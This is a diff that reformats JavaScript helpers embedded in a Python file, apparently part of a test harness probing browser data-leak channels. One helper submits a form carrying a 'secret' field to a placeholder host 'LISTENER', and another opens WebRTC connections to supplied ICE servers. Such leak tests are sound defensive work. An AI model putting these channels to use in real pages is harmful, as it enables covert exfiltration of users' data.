@@ -92,12 +92,29 @@ NAVIGATION_WAYS: dict[str, str] = {
 }
 
 _TOOLS = """
-const add = (tag, more) => { const made = document.createElement(tag); Object.assign(made, more);
-  for (const [name, value] of Object.entries(more)) if (name === 'ping' || name === 'as') made.setAttribute(name, value);
-  document.body.append(made); return made };
-const svg = (inner) => document.body.insertAdjacentHTML('beforeend', `<svg width=20 height=20>${inner}</svg>`);
-const submit = (method, target) => { const form = add('form', {method, target, action: 'http://LISTENER/way-form?secret'}); add('input', {name: 'secret', value: 'x'}); form.submit() };
-const rtc = (urls) => { const peer = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]}); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); (window.peers ??= []).push(peer) };
+const add = (tag, more) => {
+  const made = document.createElement(tag);
+  Object.assign(made, more);
+  for (const [name, value] of Object.entries(more)) {
+    if (name === 'ping' || name === 'as') made.setAttribute(name, value);
+  }
+  document.body.append(made);
+  return made;
+};
+const svg = (inner) => {
+  document.body.insertAdjacentHTML('beforeend', `<svg width=20 height=20>${inner}</svg>`);
+};
+const submit = (method, target) => {
+  const form = add('form', {method, target, action: 'http://LISTENER/way-form?secret'});
+  add('input', {name: 'secret', value: 'x'});
+  form.submit();
+};
+const rtc = (urls) => {
+  const peer = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]});
+  peer.createDataChannel('x');
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  (window.peers ??= []).push(peer);
+};
 """
 
 
